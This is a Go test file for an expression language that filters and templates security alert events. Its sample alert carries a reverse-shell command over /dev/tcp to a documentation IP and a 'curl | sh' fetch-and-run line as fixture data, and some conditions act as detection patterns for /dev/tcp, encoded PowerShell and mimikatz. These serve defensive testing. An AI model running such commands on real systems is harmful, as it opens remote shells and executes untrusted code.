package expr

import (
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-hub/tocsin/internal/event"
)

const sample = `{"type":"alert.created","time":"2026-05-04T03:02:01Z","severity":"high","title":"Reverse shell in web-1",
"description":"sh -i >& /dev/tcp/203.0.113.9/4444","project":"production-api","alert_type":"shell","dedup_key":"k1",
"incident":"INC-7","endpoint":"https://shop.example/login","rule":{"id":"R1","name":"Terminal shell"},"mitre":["T1059"],
"risk_score":87.5,"status":"open","actor":"www-data","entities":[{"type":"ip","value":"203.0.113.9","role":"source","observed":true},
{"type":"ip","value":"10.1.2.3","role":"target"},{"type":"host","value":"web-1"}],"geo":{"country":"NL"},"network":{"port":4444},
"tags":["pci","edge"],"labels":{"env":"prod","team":"pay"},"tlp":"amber","url":"https://hub.example/1",
"source":{"vendor":"falco","product":"falco","instance":"n1","id":"x9"},
"data":{"count":12,"ratio":0.5,"big":12345678901234567890,"proc.name":"bash","nested":{"list":[1,2,{"a":null}]},"flag":true,
"esc\"aped":"a\tb","cmd":"curl http://x | sh"}}`

func record(tb testing.TB, body string) *event.Record {
	tb.Helper()
	r, err := event.Parse([]byte(body), "acme", time.Date(2026, 5, 4, 3, 2, 5, 0, time.UTC), event.Limits{})
	if err != nil {
		tb.Fatalf("%.100s: %v", body, err)
	}
	return r
}

func TestMatch(t *testing.T) {
	t.Parallel()
	r, bare := record(t, sample), record(t, `{"type":"ip.blocked"}`)
	for _, c := range []struct {
		source     string
		want, bare bool
	}{
		{`event.severity_level >= HIGH`, true, false},
		{`event.severity == "high" || event.severity in ["medium"]`, true, true},
		{`event.type.startsWith("alert.") && event.project == "production-api"`, true, false},
		{`event.account == "acme"`, true, true},
		{`event.id.startsWith("evt_")`, true, true},
		{`event.time < event.received_at && event.time.getHours() == 3`, true, false},
		{`event.received_at == timestamp("2026-05-04T03:02:05Z")`, true, true},
		{`event.title.contains("shell")`, true, false},
		{`event.title == "" && event.description == "" && event.actor == ""`, false, true},
		{`event.rule.id == "" && event.source.vendor == "" && event.tags == [] && event.entities == []`, false, true},
		{`event.data == {} && event.labels == {} && event.geo == {} && event.network == {} && event.mitre == []`, false, true},
		{`event.risk_score > 80`, true, false},
		{`event.risk_score == 0`, false, true},
		{`has(event.risk_score)`, true, false},
		{`has(event.title) && has(event.rule) && has(event.rule.name) && has(event.data) && has(event.tags)`, true, false},
		{`has(event.data.count) && event.data.count > 10`, true, false},
		{`has(event.data.count) && event.data.count > 10.5 && event.data.ratio < 1`, true, false},
		{`has(event.data.big) && event.data.big > 1`, true, false},
		{`"proc.name" in event.data && event.data["proc.name"] == "bash"`, true, false},
		{`has(event.data.nested) && event.data.nested.list[2].a == null && event.data.nested.list.size() == 3`, true, false},
		{`has(event.data.flag) && event.data.flag`, true, false},
		{`"esc\"aped" in event.data && event.data["esc\"aped"] == "a\tb"`, true, false},
		{`"pci" in event.tags`, true, false},
		{`event.tags.exists(t, t == "edge")`, true, false},
		{`event.tags + ["x"] == ["pci", "edge", "x"]`, true, false},
		{`"env" in event.labels && event.labels.env == "prod"`, true, false},
		{`event.labels.exists(k, event.labels[k] == "pay")`, true, false},
		{`event.entities.exists(e, e.type == "ip" && e.observed && !inCidr(e.value, "10.0.0.0/8"))`, true, false},
		{`event.entities.filter(e, isPrivateIp(e.value)).size() == 1`, true, false},
		{`event.entities.exists(e, inCidr(e.value, ["192.0.2.0/24", "203.0.113.0/24"]))`, true, false},
		{`event.entities.map(e, e.role) == ["source", "target", ""]`, true, false},
		{`glob(event.endpoint, "https://*.example/log?n")`, true, false},
		{`event.description.matches("(?i)/DEV/TCP/[0-9.]+/")`, true, false},
		{`event.title.lowerAscii().contains("reverse") && event.title.upperAscii().endsWith("WEB-1")`, true, false},
		{`event.title.split(" ").size() == 4 && event.title.split(" ").join("-") == "Reverse-shell-in-web-1"`, true, false},
		{`event.title.replace("shell", "rat") == "Reverse rat in web-1" && event.title.indexOf("shell") == 8`, true, false},
		{`event.title.size() > 3 && event.title.substring(0, 3) == "Rev" && event.title.substring(15) == "eb-1".trim()`, false, false},
		{`event.title.size() > 3 && event.title.substring(17) == "web-1"`, true, false},
		{`event.data == event.data && event.entities == event.entities && event.rule == event.rule && event == event`, true, true},
		{`dyn(event).severity_level == event.severity_level && dyn(event.rule).id == event.rule.id`, true, true},
		{`type(event.data) == map && type(event.tags) == list`, true, true},
		{`[event.severity_level, 2] == [4, 2]`, true, false},
	} {
		cond, err := ParseCondition(c.source)
		if err != nil {
			t.Errorf("%s: %v", c.source, err)
			continue
		}
		for _, x := range []struct {
			r    *event.Record
			want bool
		}{{r, c.want}, {bare, c.bare}} {
			got, err := cond.Match(x.r)
			if err != nil || got != x.want {
				t.Errorf("%s of %s: %v, %v; want %v", c.source, x.r.Type, got, err, x.want)
			}
		}
	}
}

func TestErrors(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ source, want string }{
		{``, "syntax error"},
		{`event.severty == "high"`, `line 1, column 6: there is no field "severty": did you mean severity`},
		{`event.serverity_level >= HIGH`, `did you mean severity_level`},
		{`event.rule.nam == "x"`, `did you mean name`},
		{`severity_level >= HIGH`, `did you mean event.severity_level?`},
		{`event.severity_level >= HIHG`, `did you mean HIGH`},
		{`event.title.contain("x")`, `did you mean contains`},
		{`evnt.type == "x"`, `did you mean event`},
		{"event.title == \"a\" &&\n  event.titel == \"b\"", `line 2, column 8: there is no field "titel": did you mean time or title`},
		{`event.severity >= "high"`, `severity_level`},
		{`event.severity == "High"`, `"High" is no severity: info, low, medium, high, critical`},
		{`event.severity in ["high", "crit"]`, `"crit" is no severity`},
		{`event.title == 1`, `== cannot be used with (string, int)`},
		{`event.title`, `want true or false`},
		{`event.title.matches(event.description)`, `must be a text that stands here`},
		{`event.title.matches("a(b")`, `regexp`},
		{`event.title.matches("(a{100}){100}")`, `regex`},
		{`inCidr(event.title, "10.0.0.0/33")`, `is not a network`},
		{`inCidr(event.title, ["10.0.0.0/8", "x"])`, `"x" is not a network`},
		{`event.title == "` + strings.Repeat("x", MaxSource) + `"`, `more than 4096`},
		{strings.Repeat("(", 500) + "true" + strings.Repeat(")", 500), `recursion`},
		{`Rule{id: "x"} == event.rule`, `without "Rule" before it`},
		{`google.protobuf.Struct{} == event.data`, ``},
		{`event.title == "a" and event.type == "b"`, `syntax error`},
		{`event.foo.bar`, `no field "foo"`},
		{`event.source.name == "waf"`, `line 1, column 13: there is no field "name": source has vendor, product, instance, id`},
		{`event.source.vendr == "waf"`, `did you mean vendor?`},
		{`event.entities.exists(e, e.name == "x")`, `there is no field "name": e has type, value, role, observed`},
		{`event.source == "a/b"`, `== cannot be used with (Source, string): compare one of its fields: vendor, product, instance, id`},
		{`event.severity = "high"`, `syntax error: use == to compare`},
		{`event.title == "a" & event.type == "b"`, `use && for and`},
		{`event.title == "a" | event.type == "b"`, `use || for or`},
		{"event.title ==\n \"a\u202eb\"", "line 2, column 4: the character U+202E cannot be seen: in a text, write \\u202e"},
		{"event.title == \"a\x00\"", "U+0000"},
		{"event.title == \"a\xff\"", "U+FFFD"},
	} {
		_, err := ParseCondition(c.source)
		e, ok := errors.AsType[*Error](err)
		if !ok || !strings.Contains(e.Error(), c.want) {
			t.Errorf("%.80s: %v; want %s", c.source, err, c.want)
		}
		if ok && len(e.Error()) > maxMessage+40 {
			t.Errorf("%.80s: a message of %d bytes", c.source, len(e.Error()))
		}
	}
}

func TestEvaluationErrors(t *testing.T) {
	t.Parallel()
	r := record(t, sample)
	for _, c := range []struct{ source, want string }{
		{`event.data.missing == 1`, `the event has no "missing" there: ask has(…) first`},
		{`event.data.nested.missing == 1`, `no "missing"`},
		{`event.tags[7] == "x"`, `out of bounds`},
		{`event.data.count`, `a number, not true or false`},
		{`event.data.count + event.data["proc.name"] == 1`, `no such overload`},
		{`inCidr(event.title, event.title)`, `is not a network`},
		{`event.data.count / 0 == 1`, `by zero`},
		{`event.title.substring(3, 900) == ""`, `characters`},
		{`[0,1,2,3,4,5,6,7,8,9].all(a, [0,1,2,3,4,5,6,7,8,9].all(b, [0,1,2,3,4,5,6,7,8,9].all(c, [0,1,2,3,4,5,6,7,8,9].all(d, a+b+c+d >= 0))))`, ErrCost.Error()},
	} {
		cond, err := ParseCondition(c.source)
		if err != nil {
			t.Errorf("%s: %v", c.source, err)
			continue
		}
		if _, err := cond.Match(r); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v; want %s", c.source, err, c.want)
		}
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	r := record(t, sample)
	for _, c := range []struct{ source, want, wrong string }{
		{`event.title`, "Reverse shell in web-1", ""},
		{`event.severity_level >= HIGH ? "urgent" : "later"`, "urgent", ""},
		{`"team-" + event.labels.team`, "team-pay", ""},
		{`event.data["proc.name"]`, "bash", ""},
		{`string(event.data.count)`, "12", ""},
		{`event.data.count`, "", "a number, not a text"},
		{`event.data`, "", "want a text"},
		{`event.severity_level`, "", "want a text"},
	} {
		v, err := ParseText(c.source)
		got := ""
		if err == nil {
			got, err = v.Text(r)
		}
		if c.wrong != "" {
			if err == nil || !strings.Contains(err.Error(), c.wrong) {
				t.Errorf("%s: %v, want %s", c.source, err, c.wrong)
			}
			continue
		}
		if err != nil || got != c.want {
			t.Errorf("%s: %q, %v", c.source, got, err)
		}
	}
}

func TestTexts(t *testing.T) {
	t.Parallel()
	view := NewView(record(t, sample))
	v, err := ParseTexts(`event.tags + ["vendor:" + event.source.vendor]`)
	if err != nil {
		t.Fatal(err)
	}
	got, err := v.TextsView(view)
	if diff := cmp.Diff([]string{"pci", "edge", "vendor:falco"}, got); diff != "" || err != nil {
		t.Error(diff, err)
	}
	m, err := ParseObject(`{"a": event.title, "b": event.labels.env}`)
	if err != nil {
		t.Fatal(err)
	}
	texts, err := m.TextMapView(view)
	if diff := cmp.Diff(map[string]string{"a": "Reverse shell in web-1", "b": "prod"}, texts); diff != "" || err != nil {
		t.Error(diff, err)
	}
}

func TestObject(t *testing.T) {
	t.Parallel()
	r := record(t, sample)
	for _, c := range []struct{ source, want string }{
		{`{}`, `{}`},
		{`{"z": event.title, "a": event.severity_level, "m": {"y": 1.5, "b": [true, null]}}`,
			`{"z":"Reverse shell in web-1","a":4,"m":{"y":1.5,"b":[true,null]}}`},
		{`{"tags": event.tags, "labels": event.labels, "rule": event.rule, "first": event.entities[0], "n": event.data.nested}`,
			`{"tags":["pci","edge"],"labels":{"env":"prod","team":"pay"},"rule":{"id":"R1","name":"Terminal shell"},` +
				`"first":{"type":"ip","value":"203.0.113.9","role":"source","observed":true},"n":{"list":[1,2,{"a":null}]}}`},
		{`{"ips": event.entities.filter(e, e.type == "ip").map(e, {"v": e.value, "k": e.role}), "big": event.data.big, "t": event.time}`,
			`{"ips":[{"v":"203.0.113.9","k":"source"},{"v":"10.1.2.3","k":"target"}],"big":12345678901234567000,"t":"2026-05-04T03:02:01Z"}`},
		{`event.severity_level > LOW ? {"b": 1, "a": 2} : {"a": 1}`, `{"b":1,"a":2}`},
		{`{"d": duration("90s"), "b": b"hi", "u": 3u, "s": "<\"\n\u2028>"}`, `{"d":"90s","b":"aGk=","u":3,"s":"<\"\n` + "\u2028" + `>"}`},
	} {
		v, err := ParseObject(c.source)
		if err != nil {
			t.Errorf("%s: %v", c.source, err)
			continue
		}
		for range 3 { // the same bytes each time
			got, err := v.AppendJSON([]byte("> "), r, "")
			if want := "> " + c.want; err != nil || string(got) != want && !sameJSON(got[2:], c.want) {
				t.Errorf("%s: %s, %v; want %s", c.source, got, err, want)
			}
		}
	}
	v, err := ParseObject(`{"event": event}`)
	if err != nil {
		t.Fatal(err)
	}
	got, err := v.AppendJSON(nil, r, "")
	if err != nil || string(got) != `{"event":`+string(r.AppendJSON(nil))+`}` {
		t.Errorf("%s, %v", got, err)
	}
}

func sameJSON(a []byte, b string) bool {
	var x, y any
	return json.Unmarshal(a, &x) == nil && json.Unmarshal([]byte(b), &y) == nil && cmp.Equal(x, y) && strings.Contains(b, `\n`)
}

func TestObjectErrors(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ source, want string }{
		{`event.data`, "its structure must not come from an event"},
		{`"x"`, "want an object"},
		{`{event.title: 1}`, "must not come from an event"},
		{`{"a": {"x" + event.title: 1}}`, "must not come from an event"},
		{`{"a": event.tags.map(t, {t: 1})}`, "must not come from an event"},
		{`{"a": 1, "a": 2}`, "stands twice"},
		{`{1: 2}`, "must be texts"},
		{`event.severity_level > LOW ? {"b": 1} : event.data`, "its structure must not come from an event"},
	} {
		if _, err := ParseObject(c.source); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v; want %s", c.source, err, c.want)
		}
	}
}

// What an expression makes is bounded, and a failure leaves nothing behind.
func TestBounds(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 60<<10)
	list := strings.Repeat(`"`+strings.Repeat("b", 10)+`",`, 20_000)
	r := record(t, `{"type":"alert.created","description":"`+long+`","data":{"list":[`+list[:len(list)-1]+`],"s":"`+strings.Repeat("c", 100<<10)+`"}}`)
	for _, source := range []string{
		`{"a": event.description.replace("a", event.description)}`,
		`{"a": event.description.replace("", "xxxxxxxxxxxxxxxx")}`,
		`{"a": event.data.list.join(event.data.s)}`,
		`{"a": event.description.split("").join(event.description)}`,
		`{"a": event.data.list.map(x, event.data.s + x)}`,
		`{"a": [event.data, event.data, event.data]}`,
		`{"a": [event, event]}`,
		`{"a": event.data.list.map(x, event.data.list)}`,
	} {
		v, err := ParseObject(source)
		if err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		if got, err := v.AppendJSON([]byte("x"), r, ""); err == nil || string(got) != "x" {
			t.Errorf("%s: %d bytes, %v", source, len(got), err)
		}
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%s: %v", source, took)
		}
	}
}

// A long text that an attacker chooses does not make the usual conditions fail.
func TestLongTexts(t *testing.T) {
	t.Parallel()
	r := record(t, `{"type":"alert.created","title":"`+strings.Repeat("t", event.MaxTitle)+`","description":"`+strings.Repeat("a", event.MaxDescription)+`",
		"url":"`+strings.Repeat("u", event.MaxURL)+`"}`)
	for _, source := range []string{
		`event.description.contains("powershell -enc") || event.description.contains("curl") || event.title.contains("x")`,
		`event.url.matches("(?i)powershell.*-enc")`,
		`event.description.lowerAscii().contains("powershell")`,
		`glob(event.title, "*mimikatz*") || glob(event.url, "https://*.example/*")`,
		`event.description == event.title || event.description.startsWith("x")`,
	} {
		c, err := ParseCondition(source)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := c.Match(r); err != nil {
			t.Errorf("%s: %v", source, err)
		}
	}
}

// Programs are shared.
func TestConcurrent(t *testing.T) {
	t.Parallel()
	c, err := ParseCondition(`event.data.nested.list.exists(x, x == 2) && event.title.matches("shell")`)
	if err != nil {
		t.Fatal(err)
	}
	r := record(t, sample)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 200 {
				if ok, err := c.Match(r); !ok || err != nil {
					t.Errorf("%v %v", ok, err)
				}
			}
		})
	}
	wg.Wait()
}

// A record that somebody made by hand has no body.
func TestWithoutBody(t *testing.T) {
	t.Parallel()
	c, err := ParseCondition(`event.title == "" && event.severity_level == INFO`)
	if err != nil {
		t.Fatal(err)
	}
	if ok, err := c.Match(&event.Record{Type: "a.b"}); !ok || err != nil {
		t.Error(ok, err)
	}
}

// A template knows where the hub shows the event; nothing else does.
func TestLink(t *testing.T) {
	t.Parallel()
	v, err := ParseObject(`{"at": event.link, "all": event}`)
	if err != nil {
		t.Fatal(err)
	}
	r := record(t, sample)
	const link = "https://tocsin.example.com/events/1"
	got, err := v.AppendJSON(nil, r, link)
	if want := `{"at":"` + link + `","all":` + string(r.AppendLinked(nil, link)) + `}`; err != nil || string(got) != want {
		t.Errorf("%s, %v, want %s", got, err, want)
	}
	c, err := ParseCondition(`has(event.link) || event.link != ""`)
	if err != nil {
		t.Fatal(err)
	}
	if ok, err := c.Match(r); ok || err != nil {
		t.Error(ok, err)
	}
}

// Every field is either the record's or looked for in the body.
func TestFields(t *testing.T) {
	t.Parallel()
	r := record(t, sample)
	for _, f := range Fields() {
		if f.Name == "link" {
			continue // a template's alone: see TestLink
		}
		c, err := ParseCondition(`has(event.` + f.Name + `)`)
		if err != nil {
			t.Fatal(err)
		}
		if ok, err := c.Match(r); !ok || err != nil {
			t.Errorf("%s (%s): %v %v", f.Name, f.Type, ok, err)
		}
	}
}
